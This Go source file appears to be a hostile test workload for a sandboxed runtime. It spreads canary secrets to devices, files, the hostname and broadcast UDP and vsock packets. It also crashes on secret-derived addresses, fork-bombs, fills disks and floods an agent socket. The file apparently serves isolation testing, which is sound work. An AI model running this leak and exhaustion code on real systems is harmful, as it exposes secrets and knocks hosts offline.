// SPDX-License-Identifier: Apache-2.0

package main

import (
	"bytes"
	"crypto/rand"
	"encoding/binary"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// secrets are what this workload was given: the contents of its inputs, and of the variables that begin with CANARY.
func secrets() []string {
	var all []string
	names, _ := filepath.Glob("/input/*")
	more, _ := filepath.Glob("/run/escrin/secrets/*")
	placed, _ := filepath.Glob("/run/secrets/*")
	for _, name := range slices.Concat(names, more, placed) {
		if content, err := os.ReadFile(name); err == nil {
			all = append(all, string(content))
		}
	}
	for _, e := range os.Environ() {
		if name, value, _ := strings.Cut(e, "="); strings.HasPrefix(name, "CANARY") {
			all = append(all, value)
		}
	}
	return all
}

// canary brings what it was given everywhere it can: to every file that takes it, to names, arguments and crashes.
func canary(args []string) {
	all := secrets()
	fmt.Println(len(all), "secrets")
	told := strings.Join(all, "\n")
	if len(args) > 0 && args[0] == "panic" { // the registers and the memory of a machine that is about to die
		if err := os.WriteFile("/tmp/all", []byte(told), 0o600); err == nil {
			hold(all)
		}
		_, _ = os.ReadFile("/big")
		fmt.Println("survived")
		return
	}
	fmt.Println(told)
	fmt.Fprintln(os.Stderr, told)
	for _, pattern := range []string{"/dev/*", "/dev/*/*", "/proc/self/attr/*", "/proc/sys/kernel/*", "/sys/class/tty/*/*", "/proc/self/comm", "/proc/self/fd/*", "/output/*", "/tmp/*", "/proc/sysrq-trigger", "/proc/kmsg", "/run/*"} {
		names, _ := filepath.Glob(pattern)
		for _, name := range names {
			if name == "/dev/full" || name == "/dev/ptmx" || strings.Contains(name, "/fd/") && len(name) > len("/proc/self/fd/2") {
				continue
			}
			if fd, err := unix.Open(name, unix.O_WRONLY|unix.O_NONBLOCK|unix.O_NOCTTY, 0); err == nil {
				_, _ = unix.Write(fd, []byte(told[:min(len(told), 1000)]))
				unix.Close(fd)
			}
		}
	}
	for i, s := range all {
		_ = os.WriteFile(fmt.Sprintf("/output/%02d", i), []byte(s), 0o600)
		if i%8 == 0 {
			_ = exec.Command("/proc/self/exe", "crash", s).Run()
		}
		_ = syscall.Sethostname([]byte(s[:min(len(s), 60)]))
		shout(s)
	}
	_ = os.WriteFile("/output/public", bytes.Repeat([]byte{7}, 32), 0o600)
	crash([]string{told})
}

// shout sends a text to whoever might listen.
func shout(s string) {
	for _, family := range []int{unix.AF_INET, unix.AF_INET6, unix.AF_NETLINK, unix.AF_VSOCK, unix.AF_PACKET} {
		fd, err := unix.Socket(family, unix.SOCK_DGRAM, 0)
		if err != nil {
			continue
		}
		_ = unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_BROADCAST, 1)
		for _, to := range []unix.Sockaddr{&unix.SockaddrInet4{Port: 53, Addr: [4]byte{255, 255, 255, 255}}, &unix.SockaddrInet4{Port: 53, Addr: [4]byte{10, 0, 2, 3}}, &unix.SockaddrVM{CID: 2, Port: 1}} {
			_ = unix.Sendto(fd, []byte(s), unix.MSG_DONTWAIT, to)
		}
		unix.Close(fd)
	}
}

// hold keeps texts on the stack and in the names of threads, where a dump of registers would find them.
func hold(all []string) {
	for _, s := range all {
		name := append([]byte(s)[:min(len(s), 15)], 0)
		_ = unix.Prctl(unix.PR_SET_NAME, uintptr(ptr(name)), 0, 0, 0)
	}
}

// crash has the kernel end this process for an access to an address that is a part of the text.
func crash(args []string) {
	hold(args)
	clear(space[:])
	_ = call(unix.SYS_RT_SIGACTION, uintptr(unix.SIGSEGV), scratch(), 0, 8) // not the Go runtime's own
	address := uintptr(binary.LittleEndian.Uint64([]byte(args[0] + "        ")))
	fmt.Println(*(*byte)(unsafe.Pointer(address)))
}

// starve takes all there is of everything, and leaves behind what goes on taking when the first process ends.
func starve([]string) {
	fmt.Println("descriptors", count(func() error { _, err := unix.Open("/dev/null", unix.O_RDONLY, 0); return err }) > 100)
	unix.CloseRange(3, 1<<20, 0)
	fmt.Println("inodes", count(func() error {
		return os.WriteFile(fmt.Sprintf("/output/%d", time.Now().UnixNano()), nil, 0o600)
	}) > 100)
	clean("/output")
	fmt.Println("queues", count(func() error {
		return call(unix.SYS_MQ_OPEN, path(fmt.Sprintf("q%d", time.Now().UnixNano())), unix.O_CREAT|unix.O_RDWR, 0o600, 0)
	}) > 1)
	fmt.Println("segments", count(func() error { return call(unix.SYS_SHMGET, 0, 1<<20, 0o1600) }) > 1)
	for _, dir := range []string{"/dev/shm", "/dev", "/tmp", "/output"} {
		fmt.Println("bytes", dir, fill(dir+"/fill"))
	}
	spinning := 0
	for range 4000 { // until the limit of processes
		cmd := exec.Command("/proc/self/exe", "burn", fmt.Sprint(spinning))
		cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
		if cmd.Start() != nil {
			break
		}
		spinning++
	}
	fmt.Println("processes", spinning > 3)
	ask := askAgent(os.Getenv("ESCRIN_CAPABILITY"))
	fmt.Println("agent", outcome(ask()))
	fmt.Println("connections", flood() > 500)
	time.Sleep(2 * time.Second)
	os.Exit(5)
}

// flood opens connections to the agent, each with the beginning of a request, and leaves them open.
func flood() int {
	_ = unix.Setrlimit(unix.RLIMIT_NOFILE, &unix.Rlimit{Cur: 4096, Max: 4096})
	return count(func() error {
		fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_NONBLOCK, 0)
		if err == nil {
			err = unix.Connect(fd, &unix.SockaddrUnix{Name: agentSocket})
		}
		if err == nil {
			_, err = unix.Write(fd, []byte("PUT /v1/storage/a HTTP/1.1\r\nHost: a\r\n"))
		}
		return err
	})
}

// burn takes a processor, and every other one memory as well.
func burn(args []string) {
	var hoard [][]byte
	for i := 0; ; i++ {
		if number(args[0])%2 == 0 && i%1000 == 0 && len(hoard) < 4096 {
			page := make([]byte, 1<<20)
			for at := 0; at < len(page); at += 4096 {
				page[at] = 1
			}
			hoard = append(hoard, page)
		}
	}
}

// count is how often something can be had.
func count(take func() error) int {
	for n := range 1 << 20 {
		if take() != nil {
			return n
		}
	}
	return 1 << 20
}

// fill writes to a file until there is an error.
func fill(name string) string {
	file, err := os.Create(name)
	if err != nil {
		return outcome(err)
	}
	defer file.Close()
	noise := make([]byte, 1<<20)
	_, _ = rand.Read(noise)
	for {
		if _, err := file.Write(noise); err != nil {
			return outcome(err)
		}
	}
}

func clean(dir string) {
	names, _ := filepath.Glob(dir + "/*")
	for _, n := range names {
		_ = os.Remove(n)
	}
}

// devices prints who drives what, after the agent's modules have been loaded as the agent does.
func devices() {
	modules, _ := filepath.Glob("/modules/*.ko")
	for _, name := range modules {
		if file, err := os.Open(name); err == nil {
			fmt.Println("module", filepath.Base(name), outcome(unix.FinitModule(int(file.Fd()), "", 0)))
			file.Close()
		}
	}
	for _, bus := range []string{"pci", "virtio", "usb", "scsi"} {
		names, _ := filepath.Glob("/sys/bus/" + bus + "/devices/*")
		for _, name := range names {
			id, _ := os.ReadFile(name + "/modalias")
			driver, err := os.Readlink(name + "/driver")
			if err != nil {
				driver = "-"
			}
			fmt.Printf("%s %s\t%s\n", bus, strings.TrimSpace(string(id)), filepath.Base(driver))
		}
	}
}
